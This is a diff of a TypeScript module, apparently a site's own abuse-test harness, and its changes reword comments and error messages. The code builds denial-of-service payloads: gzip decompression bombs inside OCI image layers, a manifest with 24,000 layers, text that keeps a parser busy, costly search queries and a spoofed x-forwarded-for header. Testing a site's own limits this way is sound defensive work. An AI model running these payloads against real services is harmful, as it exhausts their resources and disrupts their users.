@@ -1,4 +1,4 @@
-// A client with an account that does what costs a site the most, all of it at once and again and again.
+// A client with an account that runs the most expensive requests, concurrently and repeatedly.
 import { randomBytes, randomUUID } from 'node:crypto';
 import { gzipSync } from 'node:zlib';
 import { readFileSync } from 'node:fs';
@@ -17,15 +17,15 @@ export type Attack = (signal: AbortSignal) => Promise<number | string>;
 const LAYER = 'application/vnd.oci.image.layer.v1.tar+gzip';
 const SECTOR = 512;
 const ZEROS = 64 * 1024 * 1024;
-/** Ends a listing at its limit of unpacked bytes, like most bombs. */
+/** Hits a listing's limit of unpacked bytes, like most bombs. */
 const ZEROS_IN_LAYER = 10;
 const MANIFEST_BYTES = 4_000_000;
-/** What is accepted. */
+/** The largest accepted number. */
 const MAX_LAYERS = 24_000;
 
 let zeros: Buffer | undefined;
 
-/** @param address as the site's proxy tells it */
+/** @param address as the site's proxy reports it */
 export async function createAttacks(url: string, address: string, account: Account): Promise<Record<string, Attack>> {
   const { alias, registryId, secret } = account;
   const from = { 'x-forwarded-for': address };
@@ -84,13 +84,13 @@ export async function createAttacks(url: string, address: string, account: Accou
 
 type Put = (path: string, type: string, body: string, signal: AbortSignal) => Promise<number>;
 
-/** Of tens of thousands of layers, all of them one blob. */
+/** Pushes a manifest with tens of thousands of layers, all of them the same blob. */
 async function pushLarge(client: DistributionClient, put: Put, name: string): Promise<void> {
   const blob = blobOf(OCI_IMAGE_CONFIG, '{}');
   await client.push(name, buildManifest({ config: blob, layers: [blob] }), ['latest']);
   const text = manifestOf(`{"mediaType":"a/b","digest":"${blob.digest}","size":2}`, MAX_LAYERS, blob.digest);
   const status = await put(`/v2/${name}/manifests/deep`, OCI_IMAGE_MANIFEST, text, new AbortController().signal);
-  if (status !== 201) throw new Error(`the large manifest was refused: ${status}`);
+  if (status !== 201) throw new Error(`pushing the large manifest failed: ${status}`);
 }
 
 async function signIn(url: string, { email, password }: Account): Promise<string> {
@@ -99,25 +99,25 @@ async function signIn(url: string, { email, password }: Account): Promise<string
   const { csrfToken } = JSON.parse(text) as { csrfToken: string };
   await browser.open(`${url}/api/auth/callback/credentials`, { csrfToken, email, password });
   const session = browser.cookie(url, 'next-auth.session-token');
-  if (!session) throw new Error('nobody was signed in');
+  if (!session) throw new Error('signing in failed');
   return `next-auth.session-token=${session}`;
 }
 
-/** As the built pages name it. */
+/** Finds an action's id in the built pages. */
 function findAction(name: string): string {
   const list = readFileSync(join(ROOT, '.next/server/server-reference-manifest.json'), 'utf8');
   const { node } = JSON.parse(list) as { node: Record<string, { exportedName?: string }> };
   const id = Object.keys(node).find((key) => node[key]?.exportedName === name);
-  if (!id) throw new Error(`the pages have no action ${name}`);
+  if (!id) throw new Error(`action ${name} not found`);
   return id;
 }
 
-/** Keeps the parser busy for as long as it is let; no two are the same. */
+/** Unique text that keeps the parser busy until its time limit. */
 function hostileText(): string {
   return `${randomUUID()} ${'- >\n'.repeat(6_000)}`;
 }
 
-/** A file of its own, then the zeros that all bombs share. */
+/** A unique file, followed by the zeros that all bombs share. */
 async function makeBomb(): Promise<Buffer> {
   zeros ??= gzipSync(Buffer.alloc(ZEROS));
   const tar = await buildTar([{ path: randomUUID(), content: Buffer.alloc(SECTOR) }]);
@@ -129,7 +129,7 @@ async function makeBomb(): Promise<Buffer> {
   return Buffer.concat([gzipSync(header), ...Array.from({ length: ZEROS_IN_LAYER }, () => zeros ?? Buffer.alloc(0))]);
 }
 
-/** Unknown words that are much like each other. */
+/** Unknown words that resemble each other. */
 function longQuery(): string {
   const word = () => randomBytes(16).toString('hex').replace(/\d/g, 'k').slice(0, 31);
   return Array.from({ length: 6 }, word).join('+');
